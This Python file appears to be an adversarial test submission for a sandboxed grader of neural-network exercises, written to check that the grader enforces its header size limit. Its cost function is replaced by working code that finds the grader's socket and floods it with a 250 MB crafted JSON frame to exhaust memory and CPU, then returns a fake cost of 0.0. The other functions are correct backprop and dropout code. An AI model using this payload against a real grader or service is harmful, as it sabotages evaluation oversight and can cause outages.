# Exhausts the grader's memory and CPU with one answer: the L2 cost writes into its channel a frame
# of 250 MB (under the 256 MB frame limit) whose JSON header is "[[],[],[],...]". Parsed, it would
# cost the trusted side about 6 GB and 40 s of json.loads holding the GIL; the header size limit
# (8 MiB) must refuse it before any parsing.
import os
import struct

import numpy as np


def _channel_fd():
    for fd in range(3, 256):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                return fd
        except OSError:
            pass
    raise RuntimeError("no channel found")


def compute_cost_with_regularization(A3, Y, parameters, lambd):
    count = (250 << 20) // 3
    head = b"[" + b"[]," * (count - 1) + b"[]]"
    sizes = b"[%d]" % len(head)
    body = sizes + b"\0" + head
    fd = _channel_fd()
    os.write(fd, struct.pack(">Q", len(body)))
    view = memoryview(body)
    while view:
        view = view[os.write(fd, view[:1 << 20]):]
    return 0.0


# ---- the functions this attack leaves alone: a correct implementation ----

def backward_propagation_with_regularization(X, Y, cache, lambd):
    m = X.shape[1]
    (Z1, A1, W1, b1, Z2, A2, W2, b2, Z3, A3, W3, b3) = cache
    dZ3 = A3 - Y
    dW3 = 1. / m * np.dot(dZ3, A2.T) + lambd / m * W3
    db3 = 1. / m * np.sum(dZ3, axis=1, keepdims=True)
    dA2 = np.dot(W3.T, dZ3)
    dZ2 = np.multiply(dA2, np.int64(A2 > 0))
    dW2 = 1. / m * np.dot(dZ2, A1.T) + lambd / m * W2
    db2 = 1. / m * np.sum(dZ2, axis=1, keepdims=True)
    dA1 = np.dot(W2.T, dZ2)
    dZ1 = np.multiply(dA1, np.int64(A1 > 0))
    dW1 = 1. / m * np.dot(dZ1, X.T) + lambd / m * W1
    db1 = 1. / m * np.sum(dZ1, axis=1, keepdims=True)
    return {"dZ3": dZ3, "dW3": dW3, "db3": db3, "dA2": dA2, "dZ2": dZ2, "dW2": dW2, "db2": db2,
            "dA1": dA1, "dZ1": dZ1, "dW1": dW1, "db1": db1}


def forward_propagation_with_dropout(X, parameters, keep_prob=0.5):
    W1, b1, W2, b2, W3, b3 = (parameters[k] for k in ("W1", "b1", "W2", "b2", "W3", "b3"))
    Z1 = np.dot(W1, X) + b1
    D1 = (np.random.rand(*Z1.shape) < keep_prob).astype(int)
    A1 = np.maximum(0, Z1) * D1 / keep_prob
    Z2 = np.dot(W2, A1) + b2
    D2 = (np.random.rand(*Z2.shape) < keep_prob).astype(int)
    A2 = np.maximum(0, Z2) * D2 / keep_prob
    Z3 = np.dot(W3, A2) + b3
    with np.errstate(over="ignore"):
        A3 = 1 / (1 + np.exp(-Z3))
    return A3, (Z1, D1, A1, W1, b1, Z2, D2, A2, W2, b2, Z3, A3, W3, b3)


def backward_propagation_with_dropout(X, Y, cache, keep_prob):
    m = X.shape[1]
    (Z1, D1, A1, W1, b1, Z2, D2, A2, W2, b2, Z3, A3, W3, b3) = cache
    dZ3 = A3 - Y
    dW3 = 1. / m * np.dot(dZ3, A2.T)
    db3 = 1. / m * np.sum(dZ3, axis=1, keepdims=True)
    dA2 = np.dot(W3.T, dZ3) * D2 / keep_prob
    dZ2 = np.multiply(dA2, np.int64(A2 > 0))
    dW2 = 1. / m * np.dot(dZ2, A1.T)
    db2 = 1. / m * np.sum(dZ2, axis=1, keepdims=True)
    dA1 = np.dot(W2.T, dZ2) * D1 / keep_prob
    dZ1 = np.multiply(dA1, np.int64(A1 > 0))
    dW1 = 1. / m * np.dot(dZ1, X.T)
    db1 = 1. / m * np.sum(dZ1, axis=1, keepdims=True)
    return {"dZ3": dZ3, "dW3": dW3, "db3": db3, "dA2": dA2, "dZ2": dZ2, "dW2": dW2, "db2": db2,
            "dA1": dA1, "dZ1": dZ1, "dW1": dW1, "db1": db1}
